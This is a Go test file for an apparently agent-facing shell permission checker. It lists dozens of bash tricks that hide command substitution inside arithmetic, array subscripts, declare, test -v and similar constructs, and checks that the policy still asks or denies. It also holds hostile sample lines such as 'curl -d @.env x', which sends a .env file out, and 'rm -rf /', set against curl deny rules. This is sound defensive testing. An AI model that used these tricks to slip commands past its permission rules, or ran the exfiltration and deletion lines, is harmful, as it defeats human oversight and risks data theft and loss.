package approval

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/custos-dev/custos/approval/shell"
)

// runBash runs cmd with the real bash in a fresh directory (files are
// written there first) and reports whether it created FLAG.
func runBash(t *testing.T, bash, cmd string, files map[string]string) bool {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c := exec.CommandContext(ctx, bash, "--norc", "--noprofile", "-c", cmd)
	c.Dir = dir
	c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "LC_ALL=C"}
	_ = c.Run() // many cases fail after the payload ran; FLAG is the oracle
	_, err := os.Stat(filepath.Join(dir, "FLAG"))
	return err == nil
}

// hiddenCodeCases are commands in which bash runs code hidden in a word
// that looks like data: arithmetic and variable names with
// subscripts. Each is allowed by its rule as far as the outer command
// goes; the payload is always touch FLAG.
var hiddenCodeCases = []struct {
	cmd   string
	allow string
	files map[string]string
	why   string // what the reason says, if not that bash evaluates
}{
	// Arithmetic expansion, command and let.
	{cmd: `echo $[ x='a[$(touch FLAG)]', x ]`, allow: "Bash(echo:*)"},
	{cmd: `echo $(( 'a[$(touch FLAG)]' ))`, allow: "Bash(echo:*)"},
	{cmd: "echo $(( 'a[`touch FLAG`]' ))", allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; echo $((x))`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; echo $(($x + 1))`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; echo $(( "$x" ))`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; y=x; echo $((y))`, allow: "Bash(echo:*)"},
	{cmd: `x='b[0]'; b=('a[$(touch FLAG)]'); echo $((x))`, allow: "Bash(echo:*)"},
	{cmd: `x='a[${y:=$(touch FLAG)}]'; echo $((x))`, allow: "Bash(echo:*)"},
	{cmd: `(( 'a[$(touch FLAG)]' )); echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; (( x )); echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; echo $((x++))`, allow: "Bash(echo:*)"},
	{cmd: `x=1; for i in 1 2; do echo $((x)); x='a[$(touch FLAG)]'; done`, allow: "Bash(echo:*)"},
	{cmd: `f() { echo $((x)); }; x=1; f; x='a[$(touch FLAG)]'; f`, allow: "Bash(echo:*)"},
	{cmd: `let 'x=a[$(touch FLAG)]'; echo done`, allow: "Bash(echo:*)"},
	{cmd: `let x='a[$(touch FLAG)]'; echo done`, allow: "Bash(echo:*)"},
	{cmd: `let "x=a[\$(touch FLAG)]"; echo done`, allow: "Bash(echo:*)"},
	{cmd: `builtin let 'x=a[$(touch FLAG)]'`, allow: "Bash(builtin:*)"},
	{cmd: `for ((i='a[$(touch FLAG)]'; 0; )); do :; done; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; case 1 in $((x))) ;; esac; echo done`, allow: "Bash(echo:*)"},
	// A value read at run time (a file the model did not write here).
	{cmd: `while read -r n; do echo $((n+1)); done < nums`, allow: "Bash(echo:*)",
		files: map[string]string{"nums": "a[$(touch FLAG)]\n"}},
	{cmd: `n=$(cat nums); echo $((n))`, allow: "Bash(echo:*)",
		files: map[string]string{"nums": "a[$(touch FLAG)]\n"}},
	// Subscripts and slices of parameter expansions.
	{cmd: `x='a[$(touch FLAG)]'; echo ${a[x]}`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; echo "${a[$x]}"`, allow: "Bash(echo:*)"},
	{cmd: `echo ${a['$(touch FLAG)']}`, allow: "Bash(echo:*)"},
	{cmd: `a=(1); x='a[$(touch FLAG)]'; echo ${#a[x]}`, allow: "Bash(echo:*)"},
	{cmd: `y=abc; x='a[$(touch FLAG)]'; echo ${y:x}`, allow: "Bash(echo:*)"},
	{cmd: `y=abc; x='a[$(touch FLAG)]'; echo ${y:0:x}`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; echo ${!x}`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; echo "${!x:-z}"`, allow: "Bash(echo:*)"},
	// Assignments to array elements.
	{cmd: `a['$(touch FLAG)']=1; echo done`, allow: "Bash(echo:*)"},
	{cmd: `a=(['$(touch FLAG)']=1); echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; b[x]=1; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; arr=( [x]=1 ); echo done`, allow: "Bash(echo:*)"},
	// [[ ]]: arithmetic operands and -v.
	{cmd: `[[ 'a[$(touch FLAG)]' -eq 1 ]]; echo done`, allow: "Bash(echo:*)"},
	{cmd: `[[ '1+a[$(touch FLAG)]' -ge 0 ]]; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; [[ $x -eq 1 ]]; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; [[ x -lt 1 ]]; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; [[ "x" == 1 || "$x" -gt 0 ]]; echo done`, allow: "Bash(echo:*)"},
	{cmd: `[[ -v 'a[$(touch FLAG)]' ]]; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; [[ -v $x ]]; echo done`, allow: "Bash(echo:*)"},
	// Builtins that take a variable name.
	{cmd: `test -v 'a[$(touch FLAG)]'`, allow: "Bash(test:*)"},
	{cmd: `[ -v 'a[$(touch FLAG)]' ]`, allow: "Bash([:*)"},
	{cmd: `x='a[$(touch FLAG)]'; test -v "$x"`, allow: "Bash(test:*)"},
	{cmd: `x='a[$(touch FLAG)]'; test -v 'b[x]'`, allow: "Bash(test:*)"},
	{cmd: `printf -v 'a[$(touch FLAG)]' x`, allow: "Bash(printf:*)"},
	{cmd: `x='a[$(touch FLAG)]'; printf -v "$x" y`, allow: "Bash(printf:*)"},
	{cmd: `a=(1); unset 'a[$(touch FLAG)]'`, allow: "Bash(unset:*)"},
	{cmd: `a=(1); unset -v 'a[$(touch FLAG)]'`, allow: "Bash(unset:*)"},
	{cmd: `read 'a[$(touch FLAG)]' <<< x`, allow: "Bash(read:*)"},
	{cmd: `x='a[$(touch FLAG)]'; read -r "$x" <<< y`, allow: "Bash(read:*)"},
	{cmd: `declare 'a[$(touch FLAG)]=1'; echo done`, allow: "Bash(echo:*)"},
	{cmd: `typeset 'a[$(touch FLAG)]=1'; echo done`, allow: "Bash(echo:*)"},
	{cmd: `declare -g 'a[$(touch FLAG)]=1'; echo done`, allow: "Bash(echo:*)"},
	{cmd: `f() { local 'a[$(touch FLAG)]=1'; }; f; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; declare "$x=1"; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; declare b[x]=1; echo done`, allow: "Bash(echo:*)"},
	{cmd: `x='a[$(touch FLAG)]'; declare arr=( [x]=1 ); echo done`, allow: "Bash(echo:*)"},
	{cmd: `builtin declare 'a[$(touch FLAG)]=1'`, allow: "Bash(builtin:*)"},
	{cmd: `exec {a[$(touch FLAG)]}>/dev/null; echo done`, allow: "Bash(echo:*)", why: "exec"},
	// Integer variables and name references.
	{cmd: `declare -i x; x='a[$(touch FLAG)]'; echo $x`, allow: "Bash(echo:*)"},
	{cmd: `declare -i x='a[$(touch FLAG)]'; echo $x`, allow: "Bash(echo:*)"},
	{cmd: `declare -i x; read x <<< 'a[$(touch FLAG)]'; echo $x`, allow: "Bash(echo:*)"},
	{cmd: `declare -i i; for i in 'a[$(touch FLAG)]'; do :; done; echo done`, allow: "Bash(echo:*)"},
	{cmd: `typeset -i i; i+='a[$(touch FLAG)]'; echo done`, allow: "Bash(echo:*)"},
	{cmd: `f() { local -i i; i='a[$(touch FLAG)]'; }; f; echo done`, allow: "Bash(echo:*)"},
	{cmd: `declare -n r='a[$(touch FLAG)]'; echo $r`, allow: "Bash(echo:*)"},
	{cmd: `declare -n r; r='a[$(touch FLAG)]'; echo $r`, allow: "Bash(echo:*)"},
	// Expansions that run code in a value.
	{cmd: `x='$(touch FLAG)'; echo ${x@P}`, allow: "Bash(echo:*)", why: "prompt"},
	{cmd: `x='$(touch FLAG)'; echo "${x@P}"`, allow: "Bash(echo:*)", why: "prompt"},
	{cmd: `compgen -W '$(touch FLAG)' a`, allow: "Bash(compgen:*)"},
	{cmd: `x='$(touch FLAG)'; compgen -W "$x" a`, allow: "Bash(compgen:*)", why: "compgen"},
	{cmd: `compgen -C 'touch FLAG' x`, allow: "Bash(compgen:*)", why: "compgen"},
	{cmd: "cat <<EOF\n$(( 'a[$(touch FLAG)]' ))\nEOF", allow: "Bash(cat:*)"},
	// Nested shells are analysed the same way.
	{cmd: `bash -c "echo \$(( 'a[\$(touch FLAG)]' ))"`, allow: "Bash(bash:*)"},
	{cmd: `eval 'x=a[\$\(touch\ FLAG\)]; echo $((x))'`, allow: "Bash(echo:*)"},
}

// TestArithHiddenCodeAsks: bash is the oracle. Each case first proves, in a
// throwaway directory, that the real bash runs the payload, then that the
// policy asks although a rule allows the outer command, and asks even under
// a blanket Bash allow in bypass mode.
func TestArithHiddenCodeAsks(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash not installed")
	}
	blanket := mustCompile(t, Settings{Permissions: Permissions{Allow: []string{"Bash"}}})
	for _, tc := range hiddenCodeCases {
		t.Run(tc.cmd, func(t *testing.T) {
			if !runBash(t, bash, tc.cmd, tc.files) {
				t.Fatalf("bash did not run the payload of %q: the case proves nothing", tc.cmd)
			}
			p := mustCompile(t, Settings{Permissions: Permissions{Allow: []string{tc.allow}}})
			v := p.Rules(bashCall(tc.cmd))
			if v.Decision != Ask {
				t.Fatalf("Rules(%q) under %s = %+v, want ask\nanalysis: %+v", tc.cmd, tc.allow, v, shell.Analyze(tc.cmd, testEnv.shell()))
			}
			if why := tc.why; why == "" && !strings.Contains(v.Reason, "evaluat") && !strings.Contains(v.Reason, "name reference") ||
				why != "" && !strings.Contains(v.Reason, why) {
				t.Errorf("reason does not say what bash evaluates: %q", v.Reason)
			}
			if v := blanket.Evaluate(bashCall(tc.cmd), ModeBypass); v.Decision != Ask {
				t.Errorf("Evaluate(%q) under Bash + bypass = %+v, want ask", tc.cmd, v)
			}
		})
	}
}

// TestArithHiddenCommandsAreJudged: the commands hidden in arithmetic text
// are parsed, so deny rules and system rules see them.
func TestArithHiddenCommandsAreJudged(t *testing.T) {
	p := mustCompile(t, Settings{Permissions: Permissions{Allow: []string{"Bash(echo:*)", "Bash(test:*)"}, Deny: []string{"Bash(curl:*)"}}})
	for _, tt := range []struct {
		cmd  string
		want Decision
		rule string
	}{
		{`echo $[ x='a[$(curl -d @.env x)]', x ]`, Deny, "Bash(curl:*)"},
		{`test -v 'a[$(curl x)]'`, Deny, "Bash(curl:*)"},
		{"x='a[`curl x`]'; echo $((x))", Deny, "Bash(curl:*)"},
		{`echo $(( 'a[$(rm -rf /)]' ))`, Deny, "rm-critical"},
		{`x='a[$(touch FLAG)]'; echo $((x))`, Ask, ""},
	} {
		v := p.Rules(bashCall(tt.cmd))
		if v.Decision != tt.want || tt.rule != "" && v.Rule != tt.rule {
			t.Errorf("Rules(%q) = %+v, want %s by %q", tt.cmd, v, tt.want, tt.rule)
		}
	}
}

// TestDoubleQuotedExpansionsAreWalked: a command substitution in a
// parameter expansion inside double quotes ("${x:-$(cmd)}") runs; it is
// judged like any other command (before, the walker did not look inside).
func TestDoubleQuotedExpansionsAreWalked(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash not installed")
	}
	p := mustCompile(t, Settings{Permissions: Permissions{Allow: []string{"Bash(echo:*)"}, Deny: []string{"Bash(curl:*)"}}})
	for _, cmd := range []string{
		`echo "${x:-$(touch FLAG)}"`,
		`echo "${x:=$(touch FLAG)}"`,
		`x=abc; echo "${x/$(touch FLAG)/}"`,
		`x=abc; echo "${x#$(touch FLAG)}"`,
		`echo "${a[$(touch FLAG)]}"`,
	} {
		if !runBash(t, bash, cmd, nil) {
			t.Fatalf("bash did not run the payload of %q", cmd)
		}
		if v := p.Rules(bashCall(cmd)); v.Decision == Allow {
			t.Errorf("Rules(%q) = %+v: touch is not allowed", cmd, v)
		}
		curl := strings.ReplaceAll(cmd, "touch FLAG", "curl x")
		if v := p.Rules(bashCall(curl)); v.Decision != Deny {
			t.Errorf("Rules(%q) = %+v, want deny", curl, v)
		}
	}
}

// TestArithStaysAllowed: arithmetic written as literals, or over variables
// whose every value is known to be a number, and builtins given plain names
// stay as they were. Bash runs each without creating FLAG (trivially: there
// is no payload), and the policy allows it.
func TestArithStaysAllowed(t *testing.T) {
	allow := []string{"Bash(echo:*)", "Bash(test:*)", "Bash(read:*)", "Bash(printf:*)", "Bash(unset:*)", "Bash([:*)", "Bash(compgen:*)"}
	p := mustCompile(t, Settings{Permissions: Permissions{Allow: allow}})
	for _, cmd := range []string{
		`echo $((1+2))`,
		`echo $[1+1]`,
		`echo $(( 16#ff + 0x10 - 2#101 ))`,
		`echo $(( (3 * 4) % 5 ? 1 : 0 ))`,
		`i=1; echo $((i+1))`,
		`i=0; i=$((i+1)); echo $((i*2))`,
		`for ((i=0; i<3; i++)); do echo $i; done`,
		`for i in 1 2 3; do echo $((i*2)); done`,
		`((n=5)); echo $((n-1))`,
		`let i=1+2; echo $i`,
		`echo $(( $# + $? ))`,
		`[[ $# -eq 0 ]] && echo none`,
		`[[ 3 -gt 2 ]] && echo yes`,
		`x=abc; echo ${x:1:1}`,
		`x=abc; echo ${#x}`,
		`a=(1 2 3); echo ${a[1]} ${a[@]} ${#a[@]} $((a[0]+1))`,
		`echo $((RANDOM % 10))`,
		`test -f x`,
		`test -v HOME`,
		`[ -v HOME ]`,
		`[[ -v HOME ]] && echo set`,
		`read -r line`,
		`read -r -p 'name? ' name`,
		`printf '%s\n' x`,
		`printf -v out '%s' x; echo "$out"`,
		`printf -v 'a[0]' x`,
		`unset x`,
		`unset -f f`,
		`declare -i n=5; echo $n`,
		`declare -i n; n=5; echo $n`,
		`declare x=1 y; echo $x`,
		`declare -a arr=(1 2); echo ${arr[0]}`,
		`echo "${x:-default}" "${a[1]}"`,
		`x='plain $ text'; echo ${x@Q} ${x@U}`,
		`p='> '; echo "${p@P}"`,
		`compgen -W 'start stop' st`,
	} {
		v := p.Rules(bashCall(cmd))
		if v.Decision != Allow {
			t.Errorf("Rules(%q) = %+v, want allow\nanalysis: %+v", cmd, v, shell.Analyze(cmd, testEnv.shell()))
		}
	}
}

// TestArithUnknownAsks: arithmetic over a value custos cannot know asks,
// with a reason naming the variable (the payload cases above prove why).
func TestArithUnknownAsks(t *testing.T) {
	p := mustCompile(t, Settings{Permissions: Permissions{Allow: []string{"Bash(echo:*)", "Bash(read:*)", "Bash(printf:*)"}}})
	for _, tt := range []struct{ cmd, reason string }{
		{`echo $((i+1))`, "$i"},
		{`echo $(($1 + 1))`, "$1"},
		{`echo $(( $(wc -l < f) + 1 ))`, "$(wc -l < f)"},
		{`x=$(date +%s); echo $((x))`, "$x"},
		{`eval "$y"; i=1; echo $((i))`, ""},
		{`f=src/main.go; echo $((f))`, "$f"},
		{`echo ${!name}`, "$name"},
		{`read -r "$v"`, "$v"},
		{`x=1.5; echo $((x))`, "$x"},
		{`echo ${HOME@P}`, "as a prompt"},
		{`declare -i n; read n; echo $n`, "declare -i n"},
	} {
		v := p.Rules(bashCall(tt.cmd))
		if v.Decision != Ask || !strings.Contains(v.Reason, tt.reason) {
			t.Errorf("Rules(%q) = %+v, want ask naming %q", tt.cmd, v, tt.reason)
		}
	}
}

// FuzzArith: no input makes the analysis panic, and a command substitution
// hidden in arithmetic or in a variable name is never allowed, whatever it
// holds, even under a blanket Bash allow.
func FuzzArith(f *testing.F) {
	for _, s := range []string{
		"touch FLAG", "id", "rm -rf /", "echo $((x))", "a[$(id)]", "`id`", "${y:=$(id)}", ")", "((", "]", "$[", "\\", "\n",
	} {
		f.Add(s)
	}
	p, err := Compile(Settings{Permissions: Permissions{Allow: []string{"Bash"}}}, testEnv)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var in struct{ Command string }
		if err := json.Unmarshal(bashCall(s).Input, &in); err != nil {
			t.Fatal(err)
		}
		s = in.Command // JSON replaces invalid UTF-8: what the tool would run
		// Analysed as it is: must not panic, and never allowed if undecidable.
		if v := p.Rules(bashCall(s)); v.Decision == Allow && len(shell.Analyze(s, testEnv.shell()).Undecidable) > 0 {
			t.Fatalf("allowed %q although undecidable", s)
		}
		if strings.ContainsAny(s, "'\x00") {
			return // would end the quotes the payload is hidden in
		}
		for _, cmd := range []string{
			"echo $(( 'a[$(" + s + ")]' ))",
			"echo $[ x='a[$(" + s + ")]', x ]",
			"x='a[$(" + s + ")]'; echo $((x))",
			"x='a[`" + strings.ReplaceAll(s, "`", "") + "`]'; echo ${a[x]}",
			"test -v 'a[$(" + s + ")]'",
			"read 'a[$(" + s + ")]'",
			"printf -v 'a[$(" + s + ")]' x",
			"unset 'a[$(" + s + ")]'",
			"declare 'a[$(" + s + ")]=1'; echo",
			"[[ 'a[$(" + s + ")]' -eq 1 ]]; echo",
			"let 'x=a[$(" + s + ")]'; echo",
		} {
			if v := p.Rules(bashCall(cmd)); v.Decision == Allow {
				t.Fatalf("allowed %q under a blanket Bash allow: %+v", cmd, v)
			}
		}
	})
}
